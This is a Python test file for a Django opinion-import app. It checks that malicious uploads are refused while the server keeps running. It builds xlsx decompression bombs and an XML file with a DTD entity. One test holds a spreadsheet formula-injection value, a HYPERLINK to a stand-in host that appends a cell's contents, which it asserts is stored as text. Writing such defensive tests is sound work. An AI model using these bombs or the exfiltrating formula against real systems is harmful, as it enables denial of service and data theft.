"""Spreadsheets made to take the server down: measured before they are read, and read in a
child process with limits, so that the person is told and the server goes on answering."""

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import Workbook

from opinions.models import Opinion
from tests.factories import ProcessFactory

pytestmark = pytest.mark.django_db


def two_cells(*, declared: bool) -> bytes:
    """A1 and XFD1048576: 1.5 KB that a reader building every cell between them needs 549 GB
    for. Without its <dimension> the sheet does not say how large it is."""
    book = Workbook()
    book.active["A1"] = "Synpunkt"
    book.active["XFD1048576"] = "x"
    out = io.BytesIO()
    book.save(out)
    if declared:
        return out.getvalue()
    stripped = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(out.getvalue())) as source,
        zipfile.ZipFile(stripped, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                data = re.sub(rb'<dimension ref="[^"]*"/>', b"", data)
            target.writestr(item, data)
    return stripped.getvalue()


def honest_and_huge(rows: int) -> bytes:
    """A sheet that says what it holds, and holds more cells than opinions come in. (The
    attacker's was 3.8 MB and unpacked to 283 MB; the test lowers the cap instead.)"""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
        )
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b'<dimension ref="A1:E%d"/><sheetData>' % rows
            )
            for row in range(rows):
                cells = b"".join(
                    b'<c t="inlineStr"><is><t>Synpunkt %d:%d</t></is></c>' % (row, column)
                    for column in range(5)
                )
                sheet.write(b"<row>" + cells + b"</row>")
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


@pytest.fixture
def process(db):
    return ProcessFactory(slug="sunne")


@pytest.mark.parametrize("declared", [True, False], ids=["declared", "not-declared"])
def test_the_upload_page_refuses_a_two_cell_bomb_and_the_server_lives(
    administrator_client, process, declared
):
    url = reverse("staff:opinion_import", kwargs={"slug": "sunne"})
    upload = SimpleUploadedFile("bomb.xlsx", two_cells(declared=declared))
    response = administrator_client.post(url, {"file": upload})
    page = response.content.decode()
    assert response.status_code == 200
    assert "bomb.xlsx:" in page
    assert "tas inte emot" in page  # "it is refused"
    assert administrator_client.get("/healthz").status_code == 200
    assert not Opinion.objects.exists()


def test_an_honest_sheet_far_larger_than_opinions_is_refused_before_it_is_read(
    administrator_client, process, settings
):
    settings.IMPORT_MAX_CELLS = 10_000
    data = honest_and_huge(rows=4_000)
    url = reverse("staff:opinion_import", kwargs={"slug": "sunne"})
    response = administrator_client.post(url, {"file": SimpleUploadedFile("stor.xlsx", data)})
    page = response.content.decode()
    assert "stor.xlsx:" in page
    assert "4000" in page.replace("\xa0", "").replace(" ", "")
    assert not Opinion.objects.exists()


@pytest.mark.parametrize("declared", [True, False], ids=["declared", "not-declared"])
def test_import_opinions_refuses_a_two_cell_bomb_with_a_message(process, tmp_path, declared):
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(two_cells(declared=declared))
    with pytest.raises(CommandError, match=r"bomb\.xlsx"):
        call_command("import_opinions", str(path), "--process", "sunne")
    assert not Opinion.objects.exists()


def test_a_codebook_file_with_a_dtd_is_refused_with_a_message(administrator_client, process):
    process.stage = "analysis"
    process.save()
    qdc = (
        b'<?xml version="1.0"?><!DOCTYPE CodeBook [<!ENTITY big "Boende">]>'
        b'<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>'
        b'<Code guid="6f1c3c2e-5d0b-4f44-9a53-5e2b3f0c7a11" name="&big;" isCodable="true"/>'
        b"</Codes></CodeBook>"
    )
    url = reverse("staff:codebook_import", args=["sunne"])
    response = administrator_client.post(url, {"file": SimpleUploadedFile("kod.qdc", qdc)})
    assert response.status_code == 200
    assert "kod.qdc" in response.content.decode()
    assert not process.categories.exists()


def test_a_codebook_csv_with_a_null_character_is_refused_with_its_row(
    administrator_client, process
):
    """PostgreSQL cannot store U+0000 in text: the row that holds one is named, not saved."""
    process.stage = "analysis"
    process.save()
    data = "name,definition\nBoende,Hyresrätter\nSkola,Grund\x00skolan\n".encode()
    url = reverse("staff:codebook_import", args=["sunne"])
    administrator_client.raise_request_exception = False
    response = administrator_client.post(url, {"file": SimpleUploadedFile("kod.csv", data)})
    assert response.status_code == 200
    assert (
        "kod.csv, rad 3: raden innehåller ett nolltecken (byte 0), som text inte kan innehålla; "
        "filen kan vara skadad." in response.content.decode()
    )
    assert not process.categories.exists()


def test_a_coding_search_of_five_hundred_words_answers(client, process, strategist_user):
    process.stage = "analysis"
    process.save()
    client.force_login(strategist_user)
    words = " ".join(f"ord{number}" for number in range(500))
    response = client.get(reverse("staff:coding_list", args=["sunne"]), {"q": words})
    assert response.status_code == 200


def test_an_area_named_like_a_formula_is_text_in_the_event_template(client, facilitator_user):
    from openpyxl import load_workbook

    from tests.factories import AreaFactory, DialogueEventFactory

    process = ProcessFactory(slug="sunne", stage="dialogue_open")
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka här")'
    AreaFactory(process=process, name=evil)
    event = DialogueEventFactory(process=process, slug="torget")
    event.facilitators.add(facilitator_user)
    client.force_login(facilitator_user)
    response = client.get(reverse("staff:event_template", args=["sunne", "torget"]))
    book = load_workbook(io.BytesIO(response.content))
    written = [cell for row in book["Listor"].iter_rows() for cell in row if cell.value == evil]
    assert written, "the area is in the lists"
    assert all(cell.data_type == "s" for cell in written)


def test_an_upload_never_confirmed_is_gone_a_day_later(administrator_client, process):
    import datetime

    from django.core.files.storage import default_storage
    from django.utils import timezone

    from opinions.services.imports import uploads_purge

    url = reverse("staff:opinion_import", kwargs={"slug": "sunne"})
    data = b"Synpunkt\nRing mig, Karin 070-123 45 67\n"
    # The test storage lives in memory for the whole run: earlier tests' uploads go first.
    uploads_purge(now=timezone.now() + datetime.timedelta(days=365))
    administrator_client.post(url, {"file": SimpleUploadedFile("blankett.csv", data)})
    _folders, kept = default_storage.listdir("imports")
    assert len(kept) == 1  # kept for its preview and confirmation
    assert uploads_purge(now=timezone.now() + datetime.timedelta(hours=2)) == 0
    assert uploads_purge(now=timezone.now() + datetime.timedelta(days=1, minutes=1)) == 1
    assert default_storage.listdir("imports")[1] == []


def test_a_codebook_csv_in_neither_utf8_nor_windows_1252_is_read_not_a_server_error(
    administrator_client, process
):
    """Five bytes mean nothing in Windows-1252 (0x81 among them): read as a replacement
    character, as the opinions' CSV is, not a server error."""
    process.stage = "analysis"
    process.save()
    url = reverse("staff:codebook_import", args=["sunne"])
    data = SimpleUploadedFile("kod.csv", b"name\nBo\x81ende\n")
    administrator_client.raise_request_exception = False
    response = administrator_client.post(url, {"file": data})
    assert response.status_code in (200, 302)
    assert process.categories.get().name == "Bo\ufffdende"
